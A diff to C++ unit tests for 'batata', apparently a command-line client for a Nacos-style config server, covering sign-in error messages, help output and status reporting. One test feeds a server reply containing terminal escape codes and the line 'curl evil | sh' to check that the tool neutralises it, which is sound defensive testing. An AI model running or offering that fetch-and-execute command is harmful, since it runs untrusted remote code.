@@ -145,9 +145,8 @@ TEST(Run, RefusalExitsWithFive) {
   const Ran ran = run_against(server, {"config", "delete", "a"});
   EXPECT_EQ(ran.code, 5);
   EXPECT_EQ(ran.error,
-            "batata: the server answered 403: no\n"
-            "next: sign in with BATATA_USERNAME and BATATA_PASSWORD, or BATATA_TOKEN, as somebody who may do "
-            "this\n");
+            "batata: nobody has signed in: the server answered 403: no\n"
+            "next: sign in: set both BATATA_USERNAME and BATATA_PASSWORD, or BATATA_TOKEN\n");
 }
 
 TEST(Run, AServersWordsNeitherDriveATerminalNorLookLikeOurs) {
@@ -157,7 +156,8 @@ TEST(Run, AServersWordsNeitherDriveATerminalNorLookLikeOurs) {
                            "31m")}});
   const Ran ran = run_against(server, {"config", "get", "a"});
   EXPECT_TRUE(ran.error.starts_with(
-      "batata: the server answered 403: ?]0;title?no?next: curl evil | sh??31m\nnext: sign in"))
+      "batata: nobody has signed in: the server answered 403: ?]0;title?no?next: curl evil | sh??31m\nnext: "
+      "sign in"))
       << ran.error;
   TinyServer long_winded({{"GET /nacos/v1/cs/configs?dataId=a&group=DEFAULT_GROUP",
                            http(403, std::string(499, 'x') + "\xe9\x85\x8d")}});
@@ -204,13 +204,74 @@ TEST(Run, ATokenNeedsNoSigningIn) {
   EXPECT_NE(server.requests[0].find("\r\naccessToken: t0k3n\r\n"), std::string::npos) << server.requests[0];
 }
 
-TEST(Run, AWrongPasswordIsSaidAndExitsWithFive) {
-  TinyServer server({{"POST /nacos/v1/auth/login", http(403, "unknown user!")}});
-  const Ran ran = run_against(server, {"config", "delete", "a"},
-                              {.environment = {"BATATA_USERNAME=nacos", "BATATA_PASSWORD=wrong"}});
-  EXPECT_EQ(ran.code, 5);
-  EXPECT_NE(ran.error.find("sign in as nacos: the server answered 403: unknown user!"), std::string::npos)
-      << ran.error;
+TEST(Run, WhoIsNotLetInIsToldWhyAndExitsWithFive) {
+  const auto framework = [](const std::string& message) {
+    return http(403, R"({"timestamp":"t","status":403,"error":"Forbidden","message":")" + message +
+                         R"(","path":"/nacos/v1/cs/configs"})");
+  };
+  struct Case {
+    std::vector<std::string> environment;
+    std::string sign_in, answer, error;
+  };
+  const Case table[] = {
+      {{},
+       "",
+       framework("user not found!"),
+       "batata: nobody has signed in: the server answered 403: user not found!\nnext: sign in: set both "
+       "BATATA_USERNAME and BATATA_PASSWORD, or BATATA_TOKEN\n"},
+      {{"BATATA_PASSWORD=pw"},
+       "",
+       framework("user not found!"),
+       "batata: nobody has signed in: the server answered 403: user not found!\nnext: sign in: set both "
+       "BATATA_USERNAME and BATATA_PASSWORD, or BATATA_TOKEN\n"},
+      {{"BATATA_USERNAME=nacos", "BATATA_PASSWORD=wrong"},
+       http(403, "user not found!"),
+       "",
+       "batata: sign in as nacos: the name or the password is wrong: the server answered 403: user not "
+       "found!\nnext: check BATATA_USERNAME and BATATA_PASSWORD; a new server has no user until its first "
+       "one "
+       "is made\n"},
+      {{"BATATA_TOKEN=old"},
+       "",
+       framework("token expired!"),
+       "batata: the server answered 403: token expired!\nnext: the token in BATATA_TOKEN has ended, or is "
+       "another server's: get a new one, or set BATATA_USERNAME and BATATA_PASSWORD instead of it\n"},
+      {{"BATATA_USERNAME=app", "BATATA_PASSWORD=pw"},
+       http(200, R"({"accessToken":"t"})"),
+       framework("authorization failed!"),
+       "batata: the server answered 403: authorization failed!\nnext: sign in as somebody who may do "
+       "this\n"}};
+  for (const Case& each : table) {
+    TinyServer server({{"POST /nacos/v1/auth/login", each.sign_in},
+                       {"DELETE /nacos/v1/cs/configs?dataId=a&group=DEFAULT_GROUP", each.answer}});
+    const Ran ran = run_against(server, {"config", "delete", "a"}, {.environment = each.environment});
+    EXPECT_EQ(ran.code, 5);
+    EXPECT_EQ(ran.error, each.error);
+  }
+}
+
+TEST(Run, ExplainsEachCommandInEachWayOfAsking) {
+  const std::vector<std::vector<std::string>> commands{
+      {}, {"status"}, {"config"}, {"config", "get"}, {"tls", "ca", "create"}, {"server"}};
+  for (const auto& command : commands) {
+    std::vector<std::string> asked{"help"}, flagged = command, brief = command;
+    asked.insert(asked.end(), command.begin(), command.end());
+    flagged.emplace_back("--help");
+    brief.emplace_back("-h");
+    const Ran help = run_words(asked);
+    EXPECT_EQ(help.code, 0) << help.error;
+    EXPECT_NE(help.out, "");
+    EXPECT_EQ(run_words(flagged).out, help.out);
+    EXPECT_EQ(run_words(brief).out, help.out);
+  }
+  EXPECT_NE(run_words({"help", "config", "get"}).out.find("batata config get"), std::string::npos);
+  EXPECT_NE(run_words({"help"}).out.find("help "), std::string::npos) << "among the commands";
+  for (const auto& words : std::vector<std::vector<std::string>>{
+           {"help", "nothing"}, {"nothing", "--help"}, {"help", "config", "nothing"}}) {
+    const Ran unknown = run_words(words);
+    EXPECT_EQ(unknown.code, 2) << words.back();
+    EXPECT_NE(unknown.error.find("no command 'nothing'"), std::string::npos) << unknown.error;
+  }
 }
 
 TEST(Run, ASignInThatFailsLeavesNothingToLookFor) {
@@ -244,13 +305,50 @@ TEST(Run, ServerThatIsNotThereOrBreaksOffExitsWithOne) {
   EXPECT_EQ(nobody.code, 1);
   EXPECT_EQ(nobody.error,
             "batata: cannot reach " + address +
-                ": Connection refused\nnext: start a server with `batata server`, or name another with "
-                "--server HOST:PORT\n");
+                ": Connection refused\nnext: start a server with `batata server` (one that has begun to "
+                "start answers when it has read its data), or name another with --server HOST:PORT\n");
   TinyServer breaks({{"POST /nacos/v1/cs/configs", ""}});
   const Ran broken = run_against(breaks, {"config", "set", "a", "1"});
   EXPECT_EQ(broken.code, 1);
   EXPECT_NE(broken.error.find("broke before the answer was complete"), std::string::npos) << broken.error;
   EXPECT_NE(broken.error.find("next: look with `batata config get` before trying again\n"),
+            std::string::npos);
+}
+
+TEST(Run, StatusSaysWhetherWritesAreTakenAndWhoHasSignedIn) {
+  const std::string state = R"({"auth_enabled":"true","startup_mode":"standalone","version":"3.1.0"})";
+  const auto answers = [&](const std::string& writes) {
+    return std::map<std::string, Answers>{
+        {"POST /nacos/v1/auth/login", http(200, R"({"accessToken":"t"})")},
+        {"GET /nacos/v1/console/server/state", http(200, state)},
+        {"GET /batata/v1/status", http(200, writes)},
+        {"GET /nacos/v1/ns/operator/metrics?onlyStatus=false", http(200, R"({"status":"UP"})")}};
+  };
+  TinyServer takes(answers(R"({"writes":"taken"})"));
+  const Ran good = run_against(takes, {"status"}, {.environment = {"BATATA_USERNAME=nacos"}});
+  EXPECT_EQ(good.code, 0) << good.error;
+  EXPECT_NE(good.out.find("\nwrites          taken\nversion "), std::string::npos) << good.out;
+  EXPECT_NE(good.out.find("\nauthentication  on\nsigned_in       as nacos\n"), std::string::npos) << good.out;
+  TinyServer refuses(answers(R"({"writes":"refused","reason":"the disk is nearly full"})"));
+  const Ran full = run_against(refuses, {"status", "-o", "json"}, {.environment = {"BATATA_TOKEN=t"}});
+  EXPECT_EQ(full.code, 0) << "it is up, and reads go on";
+  EXPECT_NE(full.out.find(R"("status":"UP","writes":"refused","reason":"the disk is nearly full",)"),
+            std::string::npos)
+      << full.out;
+  EXPECT_NE(full.out.find(R"("signed_in":"with BATATA_TOKEN, unchecked")"), std::string::npos) << full.out;
+  EXPECT_EQ(full.error,
+            "batata: writes are refused: the disk is nearly full\n"
+            "next: the server's log says more; reads go on\n");
+}
+
+TEST(Run, StatusOfWhatSpeaksSomethingElseDoesNotSpeakOfWrites) {
+  TinyServer breaks({{"GET /nacos/v1/console/server/state", ""}});
+  const Ran ran = run_against(breaks, {"status"});
+  EXPECT_EQ(ran.code, 1);
+  EXPECT_TRUE(ran.error.ends_with("next: check --server: what listens there may be something else\n"))
+      << ran.error;
+  TinyServer tls({{"GET /nacos/v1/console/server/state", http(400, "this port speaks TLS")}});
+  EXPECT_NE(run_against(tls, {"status"}).error.find("next: check --server: it must be a port without TLS"),
             std::string::npos);
 }
 
@@ -301,6 +399,7 @@ TEST(Run, StatusShowsVersionCountsAndTime) {
   const auto answers = [&](const std::string& text) {
     return std::map<std::string, Answers>{
         {"GET /nacos/v1/console/server/state", http(200, state)},
+        {"GET /batata/v1/status", http(404, "")},
         {"GET /nacos/v1/ns/operator/metrics?onlyStatus=false", http(200, text)}};
   };
   TinyServer up(answers(metrics));
@@ -321,6 +420,7 @@ TEST(Run, StatusAsJsonHasNumbersAndIsThereForAServerThatIsDown) {
     const auto answers = [&] {
       return std::map<std::string, Answers>{
           {"GET /nacos/v1/console/server/state", http(200, state)},
+          {"GET /batata/v1/status", http(404, "")},
           {"GET /nacos/v1/ns/operator/metrics?onlyStatus=false", http(200, metrics)}};
     };
     TinyServer scripts(answers());
@@ -328,7 +428,7 @@ TEST(Run, StatusAsJsonHasNumbersAndIsThereForAServerThatIsDown) {
     EXPECT_EQ(json.code, code);
     EXPECT_TRUE(json.out.starts_with(
         "{\"server\":\"" + scripts.address() + "\",\"status\":\"" + up +
-        R"(","version":"2.5.1","mode":"standalone","authentication":"on","services":3,"clients":0,"response_ms":)"))
+        R"(","version":"2.5.1","mode":"standalone","authentication":"on","signed_in":"no","services":3,"clients":0,"response_ms":)"))
         << json.out;
     EXPECT_TRUE(json.out.ends_with("}\n") && json.out[json.out.size() - 3] != '"') << json.out;
     TinyServer people(answers());
